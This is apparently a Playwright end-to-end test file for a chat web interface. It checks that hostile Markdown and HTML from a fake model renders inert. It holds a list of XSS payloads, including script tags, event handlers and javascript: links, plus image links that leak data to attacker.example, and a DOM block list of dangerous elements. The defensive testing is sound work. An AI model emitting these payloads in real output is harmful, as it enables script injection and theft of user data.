"""Hostile model output renders inert: no script runs, no handler fires, nothing is fetched.

Every payload of fixtures/xss (PayloadsAllTheThings' lists, see its SOURCES.md) and
the Markdown vectors those lists lack is sent as a question and echoed back by the fake model,
so it is rendered both as the user's text and as the answer's Markdown, while streaming and
finished. The ``ui`` fixture fails the test on any dialog, page error or request to another host.
"""

from __future__ import annotations

import base64
import os
from pathlib import Path

import pytest

from tests.e2e.harness import Browser, Server
from tests.e2e.test_chat import answers, send, wait_idle

pytest.importorskip("playwright.sync_api", reason="the end-to-end tests need playwright")

from playwright.sync_api import Page, Route, expect

# A copy of the shared payload lists (see fixtures/xss/SOURCES.md for where they come from).
FIXTURES = Path(
    os.environ.get("SSECHAT_XSS_FIXTURES") or Path(__file__).parent / "fixtures" / "xss"
)
PAYLOAD_FILES = sorted(FIXTURES.glob("*.txt"))
assert PAYLOAD_FILES, f"no XSS payload lists in {FIXTURES}"

MARKDOWN_VECTORS = r"""
[plain js](javascript:alert(1))
[mixed case](JaVaScRiPt:alert(1))
[entity](javas&#99;ript:alert(1))
[all entities](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))
[colon entity](javascript&#58;alert(1))
[named colon](javascript&colon;alert(1))
[tab inside](java&#9;script:alert(1))
[leading space]( javascript:alert(1))
[vbscript](vbscript:msgbox(1))
[data html](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[angle](<javascript:alert(1)>)
[titled](javascript:alert(1) "title")

<javascript:alert(1)>
<vbscript:alert(1)>
<data:text/html,<script>alert(1)</script>>

[reference link][evil]

[evil]: javascript:alert(1)

![exfiltrate](https://attacker.example/collect?d=SECRET)
![reference image][pixel]

[pixel]: https://attacker.example/pixel.png?leak=1

![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)
[![linked image](https://attacker.example/a.png)](https://attacker.example/)
![http image](http://attacker.example/b.gif)

<img src=x onerror=alert(1)>
<script>alert(1)</script>
<iframe src="https://attacker.example/"></iframe>
<a href="javascript:alert(1)">raw html link</a>
<details open ontoggle=alert(1)><summary>x</summary></details>
<svg onload=alert(1)></svg>
<style>body{background:url(https://attacker.example/css)}</style>
<link rel=stylesheet href=https://attacker.example/x.css>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<form action=https://attacker.example/><input name=q value=x><button>go</button></form>

```"><img src=x onerror=alert(1)>
code
```

```math
\href{javascript:alert(1)}{x}
```

$\href{javascript:alert(1)}{x}$ and $\url{javascript:alert(1)}$ and
$\htmlStyle{background:url(https://attacker.example/k)}{x}$ and $\includegraphics{https://attacker.example/i.png}$

$$
\includegraphics[height=1em]{https://attacker.example/j.png}
$$

https://attacker.example/linkified?x=1 and www.attacker.example
"""

# Checked in the page after rendering: anything here is a sanitizer failure.
DOM_CHECK = """
() => {
  const problems = [];
  const roots = document.querySelectorAll('.thread');
  const banned = 'script,iframe,frame,object,embed,img,image,video,audio,source,style,link,meta,'
    + 'base,form,textarea,select,template,use,foreignObject,animate,set';
  for (const root of roots) {
    for (const el of root.querySelectorAll(banned)) {
      problems.push('element ' + el.outerHTML.slice(0, 120));
    }
    for (const el of root.querySelectorAll('*')) {
      for (const attr of el.attributes) {
        const name = attr.name.toLowerCase();
        const value = attr.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase();
        if (name.startsWith('on')) problems.push('handler ' + name + ' on ' + el.tagName);
        if (['href', 'src', 'srcset', 'action', 'formaction', 'xlink:href', 'poster', 'background']
              .includes(name) && /^(javascript|vbscript|data|file):/.test(value))
          problems.push('url ' + name + '=' + attr.value.slice(0, 80));
        if (['src', 'srcset', 'poster', 'background', 'action', 'formaction'].includes(name))
          problems.push('fetching attribute ' + name + ' on ' + el.tagName);
        if (name === 'style' && /url\\(|image|@import|expression/.test(value))
          problems.push('style ' + attr.value.slice(0, 80));
      }
    }
    for (const a of root.querySelectorAll('a[href]')) {
      if (a.target !== '_blank' || !a.rel.includes('noopener')) problems.push('link ' + a.href);
    }
  }
  return problems;
}
"""


def assert_inert(page: Page, start_url: str) -> None:
    assert page.evaluate(DOM_CHECK) == []
    assert page.evaluate("window.__cspViolations") == []
    assert page.evaluate("typeof window.xss === 'undefined' && document.title.endsWith('ssechat')")
    assert page.url == start_url


@pytest.mark.parametrize(
    "name", [p.name for p in PAYLOAD_FILES] + ["markdown-vectors"], ids=lambda n: n
)
def test_hostile_output_renders_inert(ui: Browser, server: Server, name: str) -> None:
    if name == "markdown-vectors":
        text = MARKDOWN_VECTORS
    else:
        lines = (FIXTURES / name).read_text(encoding="utf-8", errors="replace").splitlines()
        # one payload per block, so each is parsed on its own as well as beside the others
        text = "\n\n".join(line for line in lines if line.strip())
    conversation_id = server.new_conversation("fake-echo@0")
    page = ui.page(f"/c/{conversation_id}")
    start_url = page.url
    send(page, text)
    wait_idle(page)
    answer = answers(page).last
    expect(answer.locator(".markdown")).not_to_be_empty()
    assert page.get_by_role("article", name="Your message").last.inner_text().strip() == (
        text.strip()
    )
    assert_inert(page, start_url)
    # Reopened from the server (rendered whole rather than streamed): still inert.
    page.reload()
    expect(answers(page).last.locator(".markdown")).not_to_be_empty()
    assert_inert(page, page.url)


PNG_1PX = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def test_remote_images_load_only_when_clicked(ui: Browser, server: Server) -> None:
    ui.allowed_hosts.add("images.example")
    fetched: list[str] = []

    def serve_image(route: Route) -> None:
        fetched.append(route.request.url)
        route.fulfill(status=200, content_type="image/png", body=PNG_1PX)

    conversation_id = server.new_conversation("fake-echo@0")
    context = ui.context()
    context.route("https://images.example/**", serve_image)
    page = context.new_page()
    ui.watch_page(page)
    page.goto(f"{server.base_url}/c/{conversation_id}")
    send(page, "Look: ![a cat](https://images.example/cat.png?user=secret)")
    wait_idle(page)
    placeholder = answers(page).last.get_by_role("button", name="Load image from images.example")
    expect(placeholder).to_be_visible()
    expect(placeholder).to_contain_text("a cat")
    assert fetched == []
    placeholder.click()
    image = answers(page).last.get_by_role("img", name="a cat")
    expect(image).to_be_visible()
    page.wait_for_function(
        "img => img.complete && img.naturalWidth === 1", arg=image.element_handle()
    )
    assert fetched == ["https://images.example/cat.png?user=secret"]
    assert page.evaluate("window.__cspViolations") == []
